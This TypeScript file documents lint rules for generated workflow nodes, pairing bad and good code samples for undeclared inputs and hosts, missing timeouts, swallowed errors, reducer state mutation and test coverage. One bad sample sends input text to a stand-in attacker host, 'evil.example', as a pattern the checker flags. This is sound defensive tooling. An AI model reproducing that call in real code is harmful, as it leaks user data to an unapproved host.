import type { RuleDocumentation } from "./rule-documentation.ts";

const hosts = ["api.example.com"];
const request = (address: string, more = ""): string =>
  `const response = await ctx.fetch(${address}, { signal: AbortSignal.timeout(5000) });\n${more}`;
const checkStatus = 'if (!response.ok) throw new Error("status " + response.status);';
const asked = request('"https://api.example.com/"', checkStatus);
const calls = { body: `${asked}` };
const test = (name: string, inputs = {}) => ({ name, inputs, expected: { result: 1 } });
const refused = { name: "bad", inputs: {}, error: { matches: "must be" } };
const reducer = (body: string): string =>
  `async function execute({ state, value }) {\n  if (!value) throw new Error("value must be given");\n  ${body}\n}`;

/** Rules that hold the code against the rest of its node. */
export const contractRules: readonly RuleDocumentation[] = [
  {
    id: "undeclared-input",
    severity: "either",
    finds:
      "An input that the code reads, in `execute` or in a function it hands the inputs to, and that `input_schema` does not declare.",
    why: "It is never given, often because of a slip in its name.",
    bad: { body: "ctx.log(inputs.txt);" },
    good: { body: "ctx.log(inputs.text);" },
  },
  {
    id: "no-input-validation",
    severity: "warning",
    finds: "A node with inputs whose code throws nothing at all.",
    why: "Bad input would pass through as a wrong result, or fail with words that help nobody.",
    bad: {
      program: "async function execute(inputs) {\n  return { result: inputs.text.trim() };\n}",
    },
    good: { body: "return { result: inputs.text.trim() };" },
  },
  {
    id: "undeclared-output",
    severity: "either",
    finds: "A key of a returned object that `output_schema` does not declare.",
    why: "The next node cannot know of it, and a closed schema refuses the output.",
    bad: { body: "return { results: inputs.text };" },
    good: { body: "return { result: inputs.text };" },
  },
  {
    id: "undeclared-host",
    severity: "error",
    kind: "effect",
    hosts,
    finds:
      "A request to a host that `capabilities.hosts` does not name, also by another name of `ctx.fetch` or an address put together from parts.",
    why: "What is not declared cannot be reached, and the caller has not agreed to it.",
    bad: { body: request('"https://evil.example/" + inputs.text', checkStatus) },
    good: calls,
  },
  {
    id: "unused-host",
    severity: "warning",
    kind: "effect",
    hosts,
    finds: "A declared host that no request goes to.",
    why: "What is declared is what may be reached, so it is no more than what is needed.",
    bad: { body: "ctx.log(inputs.text);" },
    good: calls,
  },
  {
    id: "invalid-host",
    severity: "error",
    kind: "effect",
    finds: "A declared host that is no bare public host name, or names an input that there is not.",
    why: "Hosts are compared by name; private addresses are never reached.",
    bad: {
      member: "capabilities",
      value: { hosts: ["http://localhost"], timeout_ms: 1000, memory_mb: 64 },
    },
    good: {
      member: "capabilities",
      value: { hosts: ["input:text"], timeout_ms: 1000, memory_mb: 64 },
    },
  },
  ...(["compute", "reducer", "orchestrator"] as const).map(
    (kind): RuleDocumentation => ({
      id: `${kind}-fetch`,
      severity: "error",
      kind,
      hosts,
      finds: `A request in a node of kind ${kind}.`,
      why: "Only effects talk to the outside.",
      bad: calls,
      good: { body: "ctx.log(inputs.text);" },
    }),
  ),
  {
    id: "compute-clock",
    severity: "warning",
    finds: "`Date.now()`, `new Date()`, `Date()` or `performance.now()` in a computation.",
    why: "The same inputs always give the same output.",
    bad: { body: "ctx.log(Date.now());" },
    good: { body: "ctx.log(new Date(inputs.text).getTime());" },
  },
  {
    id: "compute-random",
    severity: "warning",
    finds: "`Math.random`, `crypto.randomUUID` or `crypto.getRandomValues` in a computation.",
    why: "The same inputs always give the same output.",
    bad: { body: "ctx.log(Math.random());" },
    good: { body: "ctx.log(Math.round(1.5));" },
  },
  {
    id: "unchecked-status",
    severity: "warning",
    kind: "effect",
    hosts,
    finds: "An effect that never looks at `ok` or `status` of an answer.",
    why: "A request does not fail on 404 or 500 by itself.",
    bad: { body: request('"https://api.example.com/"', "ctx.log(await response.text());") },
    good: calls,
  },
  {
    id: "no-time-limit",
    severity: "warning",
    kind: "effect",
    hosts,
    finds: "An effect that gives its requests neither a signal nor a timer to race against.",
    why: "A server that never answers would hold the run until its own limit.",
    bad: { body: `const response = await ctx.fetch("https://api.example.com/");\n${checkStatus}` },
    good: calls,
  },
  {
    id: "swallowed-error",
    severity: "warning",
    kind: "effect",
    hosts,
    finds:
      "A request in a `try` whose `catch` does nothing or only writes to the log, outside of a loop.",
    why: "The workflow would go on as if the request had succeeded.",
    bad: { body: `try {\n  ${asked}\n} catch {}` },
    good: {
      body: `try {\n  ${asked}\n} catch (error) {\n  throw new Error("no answer: " + error.message);\n}`,
    },
  },
  {
    id: "reducer-mutation",
    severity: "error",
    kind: "reducer",
    finds:
      "A reducer that writes into the state it was given: an input that it returns again, or any input where the schemas do not name them.",
    why: "The state before must stay what it was; who keeps it may use it again.",
    bad: { program: reducer("state.count += value;\n  return { state };") },
    good: {
      program: reducer("return { state: { ...state, count: (state?.count ?? 0) + value } };"),
    },
  },
  {
    id: "reducer-state",
    severity: "warning",
    kind: "reducer",
    finds: "A reducer of which no property of the output is one of the inputs.",
    why: "Nothing is kept between runs: the state is handed in and out.",
    bad: { member: "output_schema", value: { type: "object", properties: { result: {} } } },
    good: {
      member: "output_schema",
      value: { type: "object", properties: { text: {}, result: {} } },
    },
  },
  {
    id: "orchestrator-plan",
    severity: "warning",
    kind: "orchestrator",
    finds: "An orchestrator whose output can hold neither a list, an object nor a date.",
    why: "It returns a plan as data.",
    bad: {
      member: "output_schema",
      value: { type: "object", properties: { result: { type: "number" } } },
    },
    good: {
      member: "output_schema",
      value: { type: "object", properties: { result: { type: "array" } } },
    },
  },
  {
    id: "unknown-field",
    severity: "error",
    finds: "A field of the form, or a condition of one, for an input that there is not.",
    why: "What a person enters there would reach nothing.",
    bad: { member: "formFields", value: [{ key: "txt", label: "Text", widget: "text" }] },
    good: { member: "formFields", value: [{ key: "text", label: "Text", widget: "text" }] },
  },
  {
    id: "repeated-field",
    severity: "error",
    finds: "Two fields of the form for one input.",
    why: "It would not be clear which of them counts.",
    bad: {
      member: "formFields",
      value: [1, 2].map(() => ({ key: "text", label: "Text", widget: "text" })),
    },
    good: { member: "formFields", value: [{ key: "text", label: "Text", widget: "text" }] },
  },
  {
    id: "unknown-port",
    severity: "error",
    by: "ports",
    finds: "A port of a changed node that stands for no property of a schema.",
    why: "Nothing would ever flow through it.",
    bad: {
      member: "node_definition",
      value: {
        type: "generatedNode",
        kind: "compute",
        inputs: [{ id: "txt", label: "Text", type: "string", required: true }],
        outputs: [],
      },
    },
    good: {
      member: "node_definition",
      value: {
        type: "generatedNode",
        kind: "compute",
        inputs: [{ id: "text", label: "Text", type: "string", required: true }],
        outputs: [],
      },
    },
  },
  {
    id: "too-few-tests",
    severity: "warning",
    finds: "Fewer than three tests.",
    why: "They show too little of what the node does.",
    bad: { member: "tests", value: [test("one"), refused] },
    good: { member: "tests", value: [test("one"), test("two"), refused] },
  },
  {
    id: "no-bad-input-test",
    severity: "warning",
    finds: "No test that expects an error.",
    why: "Whether bad input is refused stays unknown.",
    bad: { member: "tests", value: [test("one"), test("two"), test("three")] },
    good: { member: "tests", value: [test("one"), test("two"), refused] },
  },
  {
    id: "repeated-test-name",
    severity: "warning",
    finds: "Two tests of the same name.",
    why: "A report could not tell them apart.",
    bad: { member: "tests", value: [test("one"), test("one"), refused] },
    good: { member: "tests", value: [test("one"), test("two"), refused] },
  },
  {
    id: "no-http-script",
    severity: "warning",
    kind: "effect",
    finds: "An effect of which no test scripts a request.",
    why: "No request leaves while tests run, so nothing of the effect is shown.",
    bad: calls,
    good: { body: "ctx.log(inputs.text);" },
  },
  {
    id: "large-test-inputs",
    severity: "error",
    finds: "Inputs of a test that are larger than a run takes.",
    why: "The test could never pass.",
    bad: {
      member: "tests",
      value: [test("one", { text: "x".repeat(300_000) }), test("two"), refused],
    },
    good: { member: "tests", value: [test("one"), test("two"), refused] },
  },
  {
    id: "output-schema",
    severity: "error",
    by: "proof",
    finds: "An output of a run that does not fit `output_schema`.",
    why: "The next node relies on the schema.",
    bad: { member: "output", value: { result: 1, more: 2 } },
    good: { member: "output", value: { result: 1 } },
  },
];
